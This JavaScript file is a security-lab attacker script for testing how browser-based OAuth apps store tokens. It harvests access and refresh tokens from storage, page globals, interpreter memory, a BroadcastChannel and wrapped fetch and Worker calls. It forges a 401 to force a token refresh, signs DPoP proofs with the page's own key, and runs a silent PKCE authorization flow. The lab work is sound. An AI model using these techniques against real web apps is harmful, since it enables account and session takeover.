// spalab lab (E14): a deliberately injected script, the attacker. It runs in a page of an app
// that holds tokens one way or another (server/spalab/host/lab_storage.py) and tries the moves of
// draft-ietf-oauth-browser-based-apps §5.1: read the tokens (web storage, IndexedDB, the page's
// globals and interpreters, the tabs' channel, the app's own traffic), make requests of its own
// with the page's credentials, and run an authorization flow of its own.
// It talks to the page's own servers only, writes with textContent only, and keeps its notes in
// sessionStorage ("spalab-lab:attacker…"), so that a flow of its own survives the redirect.
"use strict";
(() => {
  const NOTE = "spalab-lab:attacker";
  const JWT = /^eyJ[\w-]*\.[\w-]+\.[\w-]*$/;
  const TOKEN_KEYS = ["access_token", "refresh_token", "id_token"];
  const originalFetch = window.fetch.bind(window);
  const workers = [];  // the app's Web Workers, once a wrapped postMessage has seen them
  const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
  const b64url = (bytes) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
  const utf8 = (text) => new TextEncoder().encode(text);

  // --- what the app is: the attacker reads the same config the app reads -----------------------
  async function target() {
    const script = document.querySelector("script[config]");
    const url = script ? new URL(script.getAttribute("config"), location.href).href : "/pyscript.json";
    const config = await (await originalFetch(url, { cache: "no-store" })).json();
    if (config.auth) {
      const a = config.auth;
      return { app: "example", issuer: a.issuer, client_id: a.client_id, redirect_uri: a.redirect_uri,
               scope: a.scope, api: a.api, button: "#call-api", shown: "#out" };
    }
    const s = config.spalab;
    return { app: "baseline", issuer: s.issuer, client_id: "baseline-oidc-client-ts",
             redirect_uri: location.origin + location.pathname, scope: "openid profile contacts.read",
             api: s.api_base + "/contacts", button: "#call-api", shown: "#api-result" };
  }

  // --- move: read the tokens where they are kept ------------------------------------------------
  function walk(value, where, found, depth = 0) {
    if (depth > 4 || value === null || value === undefined) return;
    if (typeof value === "string") {
      if (value.length > 1 && (value[0] === "{" || value[0] === "[")) {
        try { walk(JSON.parse(value), where, found, depth + 1); } catch (e) { /* not JSON */ }
      }
      return;
    }
    if (value instanceof CryptoKey) {
      found.push({ where, what: "CryptoKey " + value.type + " extractable=" + value.extractable });
      return;
    }
    if (typeof value !== "object" || ArrayBuffer.isView(value) || value instanceof ArrayBuffer) return;
    let keys = 0;
    for (const key in value) {  // the first 200 keys, without listing millions (a heap is an object too)
      if (++keys > 200) break;
      if (!Object.prototype.hasOwnProperty.call(value, key)) continue;
      let item;
      try { item = value[key]; } catch (e) { continue; }  // a getter that refuses
      if (TOKEN_KEYS.includes(key) && typeof item === "string" && item) {
        const type = typeof value.token_type === "string" ? value.token_type : "";
        const scheme = key === "access_token" ? (type.toLowerCase() === "dpop" ? "DPoP" : "Bearer") : undefined;
        found.push({ where: where + "." + key, what: key, value: item, scheme });
      } else {
        walk(item, where + "." + key, found, depth + 1);
      }
    }
  }

  function webStorage(found) {
    for (const [name, store] of [["sessionStorage", sessionStorage], ["localStorage", localStorage]]) {
      for (let i = 0; i < store.length; i++) {
        const key = store.key(i);
        if (!key.startsWith(NOTE)) walk(store.getItem(key), name + "[" + key + "]", found);
      }
    }
  }

  const request = (r) => new Promise((ok, ko) => { r.onsuccess = () => ok(r.result); r.onerror = () => ko(r.error); });

  async function indexedDatabases(found) {
    const names = indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : ["spalab_auth"];
    for (const name of names) {
      const db = await request(indexedDB.open(name));
      for (const store of db.objectStoreNames) {
        const values = await request(db.transaction(store).objectStore(store).getAll());
        walk(values, "IndexedDB " + name + "/" + store, found);
      }
      db.close();
    }
    return names;
  }

  // The page's own globals (those a blank window lacks), and any Python interpreter among them.
  function globals(found) {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    document.documentElement.appendChild(frame);
    const standard = new Set(Object.getOwnPropertyNames(frame.contentWindow));
    frame.remove();
    const extra = Object.getOwnPropertyNames(window).filter((n) => !standard.has(n) && !n.startsWith("__spalabAttacker"));
    const interpreters = [];
    const heaps = [];
    for (const name of extra) {
      let value;
      try { value = window[name]; } catch (e) { continue; }
      if (value && typeof value === "object" && typeof value.runPython === "function") interpreters.push(name);
      try { walk(value, "window." + name, found, 2); } catch (e) { /* a proxy that refuses */ }
    }
    // An interpreter's memory, where the page exposes it (MicroPython's Emscripten Module does): the
    // token response's text and the tokens' bytes lie there, readable by anyone with the handle.
    for (const name of extra) {
      let heap;
      try { heap = window[name] && window[name].HEAPU8; } catch (e) { continue; }
      if (!(heap instanceof Uint8Array)) continue;
      heaps.push(name + ".HEAPU8 (" + Math.round(heap.length / 1048576) + " MiB)");
      const where = "window." + name + ".HEAPU8 (the interpreter's memory)";
      const decoder = new TextDecoder("latin1");
      const chunk = 1 << 22;  // 4 MiB at a time, overlapping by a token's length
      const seen = new Set();
      for (let start = 0; start < heap.length; start += chunk) {
        const text = decoder.decode(heap.subarray(start, Math.min(heap.length, start + chunk + 2048)));
        if (!text.includes("eyJ0eXAiOiJhdCtqd3Qi") && !text.includes('"refresh_token"')) continue;
        for (const m of text.matchAll(/eyJ0eXAiOiJhdCtqd3Qi[\w-]*\.[\w-]+\.[\w-]+/g)) {
          if (!seen.has(m[0])) found.push({ where, what: "access_token", value: m[0] });
          seen.add(m[0]);
        }
        for (const m of text.matchAll(/"refresh_token"\s*:\s*"([\w-]{20,})"/g)) {
          if (!seen.has(m[1])) found.push({ where, what: "refresh_token", value: m[1] });
          seen.add(m[1]);
        }
      }
    }
    for (const name of interpreters) {
      try {
        const auth = window[name].globals.get("auth");
        const tokens = auth && auth.tokens;
        if (tokens) {
          for (const key of TOKEN_KEYS) {
            const token = tokens[key];
            if (typeof token === "string" && token) found.push({ where: "window." + name + ".globals auth.tokens", what: key, value: token });
          }
        }
      } catch (e) { /* not this interpreter's shape */ }
    }
    return { names: extra, interpreters, heaps };
  }

  // A script greeting the package's BroadcastChannel (storage "shared") like a newly opened tab.
  async function channel(app, found) {
    const ch = new BroadcastChannel("spalab_auth:" + app.issuer + "|" + app.client_id);
    const answer = new Promise((ok) => {
      ch.onmessage = (event) => {
        try { const m = JSON.parse(event.data); if (m.type === "tokens") ok(m.record); } catch (e) { /* other talk */ }
      };
      setTimeout(() => ok(null), 1500);
    });
    ch.postMessage(JSON.stringify({ type: "hello" }));
    const record = await answer;
    ch.close();
    if (record) walk(record, "BroadcastChannel", found);
    return Boolean(record);
  }

  // The app's own traffic: a fetch wrapper copies what the app sends and the token endpoint's answers.
  // It answers the app's next API call once with a fake 401 invalid_token, so that an app which
  // refreshes on such an answer does so now, through the wrapper.
  async function traffic(app, found) {
    const seen = { api_calls: 0, faked: false, token_answers: 0 };
    let fake = true;
    window.fetch = async function (input, init) {
      const url = String(input instanceof Request ? input.url : input);
      const headers = new Headers((init && init.headers) || (input instanceof Request ? input.headers : {}));
      const authorization = headers.get("authorization");
      if (authorization) {
        seen.api_calls += 1;
        const [scheme, token] = authorization.split(" ");
        found.push({ where: "fetch Authorization header", what: "access_token", value: token, scheme, proof: headers.get("dpop") });
        if (fake && url === app.api) {
          fake = false;
          seen.faked = true;
          return new Response(JSON.stringify({ error: "invalid_token" }), {
            status: 401,
            headers: { "WWW-Authenticate": scheme + ' error="invalid_token"', "Content-Type": "application/json" },
          });
        }
      }
      const response = await originalFetch(input, init);
      if (/\/token$/.test(new URL(url, location.href).pathname)) {
        try {
          walk(await response.clone().json(), "token endpoint's answer (fetch wrapper)", found);
          seen.token_answers += 1;
        } catch (e) { /* not JSON */ }
      }
      return response;
    };
    // A token-holding Web Worker (storage "worker"): whoever wraps postMessage gets the app's worker
    // at the app's next message, and can post messages of its own to it.
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (message) {
      if (!workers.includes(this)) workers.push(this);
      return post.apply(this, arguments);
    };
    const button = document.querySelector(app.button);
    if (button && !button.hidden && !button.disabled) {
      const before = document.querySelector(app.shown).textContent;
      button.click();
      for (let i = 0; i < 100 && document.querySelector(app.shown).textContent === before; i++) await sleep(100);
      await sleep(300);
    }
    return seen;
  }

  // --- move: requests of its own with the page's credentials -------------------------------------
  async function pageKey() {
    try {
      const db = await request(indexedDB.open("spalab_auth"));
      const pairs = db.objectStoreNames.contains("dpop_keys")
        ? await request(db.transaction("dpop_keys").objectStore("dpop_keys").getAll()) : [];
      db.close();
      return pairs[0] || null;
    } catch (e) { return null; }
  }

  // A DPoP proof (RFC 9449 §4.2) signed by the page's own non-extractable key.
  async function proofWith(pair, method, url, token) {
    const jwk = await crypto.subtle.exportKey("jwk", pair.publicKey);
    const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty: jwk.kty, crv: jwk.crv, x: jwk.x, y: jwk.y } };
    const claims = { jti: b64url(crypto.getRandomValues(new Uint8Array(16))), htm: method, htu: url,
                     iat: Math.floor(Date.now() / 1000), ath: b64url(await crypto.subtle.digest("SHA-256", utf8(token))) };
    const input = b64url(utf8(JSON.stringify(header))) + "." + b64url(utf8(JSON.stringify(claims)));
    const signature = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, pair.privateKey, utf8(input));
    return input + "." + b64url(signature);
  }

  // A message of the script's own to the app's token worker (the package's protocol: JSON with an id).
  function askWorker(worker, message) {
    return new Promise((ok) => {
      const id = 900000 + Math.floor(Math.random() * 90000);
      const listener = (event) => {
        let answer;
        try { answer = JSON.parse(event.data); } catch (e) { return; }
        if (answer.id === id) { worker.removeEventListener("message", listener); ok(answer); }
      };
      worker.addEventListener("message", listener);
      worker.postMessage(JSON.stringify(Object.assign({ id }, message)));
      setTimeout(() => ok(null), 10000);
    });
  }

  async function proxy(app, stolen) {
    const url = new URL("contacts", app.api).href;  // an endpoint the app itself did not call
    if (!stolen && workers.length) {
      const answer = await askWorker(workers[0], { type: "fetch", method: "GET", url, headers: {}, body: null });
      return { url, status: answer && answer.status ? answer.status : JSON.stringify(answer),
               how: "a message of its own to the app's token worker (reached by wrapping postMessage)" };
    }
    if (!stolen) return { url, status: "no token to use" };
    const headers = { Authorization: stolen.scheme + " " + stolen.value };
    let how = stolen.scheme + " token from the page";
    if (stolen.scheme === "DPoP") {
      const pair = await pageKey();
      if (!pair) return { url, status: "no key to sign with" };
      headers.DPoP = await proofWith(pair, "GET", url, stolen.value);
      how += ", proof signed by the page's own key";
    }
    const response = await originalFetch(url, { headers, cache: "no-store" });
    return { url, status: response.status, how };
  }

  async function run() {
    const ms = {};
    let clock = performance.now();
    const lap = (name) => {
      const now = performance.now();
      ms[name] = Math.round(now - clock);
      clock = now;
      sessionStorage.setItem(NOTE + ":progress", JSON.stringify(ms));  // where a run that never ends stopped
    };
    const app = await target();
    const found = [];
    webStorage(found);
    const databases = await indexedDatabases(found);
    lap("storage");
    const page = globals(found);
    lap("globals");
    const answered = await channel(app, found);
    lap("channel");
    const seen = await traffic(app, found);
    lap("traffic");
    // The newest of each: after a refresh (rotation), the ones read before it are spent.
    const last = (what) => found.filter((f) => f.what === what && f.value).pop();
    const access = last("access_token");
    const stolen = access && { value: access.value, scheme: access.scheme || "Bearer" };
    const report = {
      app: app.app,
      where: {
        access_token: [...new Set(found.filter((f) => f.what === "access_token").map((f) => f.where))],
        refresh_token: [...new Set(found.filter((f) => f.what === "refresh_token").map((f) => f.where))],
        keys: found.filter((f) => f.what.startsWith("CryptoKey")).map((f) => f.where + ": " + f.what),
      },
      access_token: access ? access.value : null,
      scheme: stolen ? stolen.scheme : null,
      refresh_token: last("refresh_token") ? last("refresh_token").value : null,
      globals: page.names,
      interpreters: page.interpreters,
      heaps: page.heaps,
      databases,
      channel_answered: answered,
      traffic: seen,
      proxy: await proxy(app, stolen),
      ms,
    };
    sessionStorage.setItem(NOTE + ":run", JSON.stringify(report));
    show(report);
    return report;
  }

  // --- move: a flow of its own (code + PKCE, prompt=none: no page is shown if the provider
  // remembers the user and the consent), with the app's client_id and redirect URI ---------------
  async function startFlow() {
    const app = await target();
    const meta = await (await originalFetch(app.issuer + "/.well-known/openid-configuration")).json();
    const verifier = b64url(crypto.getRandomValues(new Uint8Array(32)));
    const state = "attacker-" + b64url(crypto.getRandomValues(new Uint8Array(16)));
    const challenge = b64url(await crypto.subtle.digest("SHA-256", utf8(verifier)));
    sessionStorage.setItem(NOTE + ":flow", JSON.stringify({
      state, verifier, client_id: app.client_id, redirect_uri: app.redirect_uri,
      token_endpoint: meta.token_endpoint, started: Date.now(),
    }));
    const url = new URL(meta.authorization_endpoint);
    for (const [k, v] of Object.entries({
      response_type: "code", client_id: app.client_id, redirect_uri: app.redirect_uri, scope: app.scope,
      state, code_challenge: challenge, code_challenge_method: "S256", prompt: "none",
    })) url.searchParams.set(k, v);
    location.assign(url.href);
  }

  // Back from the flow: before the app's scripts run, take the code off the URL and redeem it.
  async function finishFlow(flow, params) {
    const result = { ms_to_callback: Date.now() - flow.started };
    if (params.get("code")) {
      const body = new URLSearchParams({
        grant_type: "authorization_code", code: params.get("code"), redirect_uri: flow.redirect_uri,
        client_id: flow.client_id, code_verifier: flow.verifier,
      });
      const response = await originalFetch(flow.token_endpoint, { method: "POST", body });
      const answer = await response.json().catch(() => ({}));
      Object.assign(result, {
        status: response.status, token_type: answer.token_type || null,
        access_token: answer.access_token || null, refresh_token: answer.refresh_token || null,
        error: answer.error || null,
      });
    } else {
      result.error = params.get("error") || "no code";
    }
    result.ms_total = Date.now() - flow.started;
    sessionStorage.setItem(NOTE + ":flow-result", JSON.stringify(result));
    show({ flow: result });
  }

  function show(report) {
    const out = document.getElementById("attacker-out");
    // Tokens shortened on screen (the full values stay in sessionStorage, for the lab's tests).
    const short = (key, value) =>
      typeof value === "string" && value.length > 64 ? value.slice(0, 24) + "… (" + value.length + " characters)" : value;
    if (out) out.textContent = JSON.stringify(report, short, 2);
  }

  const pending = JSON.parse(sessionStorage.getItem(NOTE + ":flow") || "null");
  const params = new URLSearchParams(location.search);
  if (pending && params.get("state") === pending.state) {
    sessionStorage.removeItem(NOTE + ":flow");
    history.replaceState(null, "", location.pathname);  // synchronously: the app never sees the response
    window.__spalabAttackerFlow = finishFlow(pending, params);
  }

  // For a harness that cannot await a long script: starts run(), whose report lands in sessionStorage.
  function start() {
    sessionStorage.removeItem(NOTE + ":run");
    run().catch((e) => sessionStorage.setItem(NOTE + ":run", JSON.stringify({ error: String(e) })));
  }

  window.__spalabAttacker = { run, start, startFlow };
  document.addEventListener("DOMContentLoaded", () => {
    document.getElementById("attacker-run").addEventListener("click", () => run().catch((e) => show({ error: String(e) })));
    document.getElementById("attacker-flow").addEventListener("click", () => startFlow().catch((e) => show({ error: String(e) })));
    const last = sessionStorage.getItem(NOTE + ":flow-result");
    if (last && !pending) show({ flow: JSON.parse(last) });
  });
})();
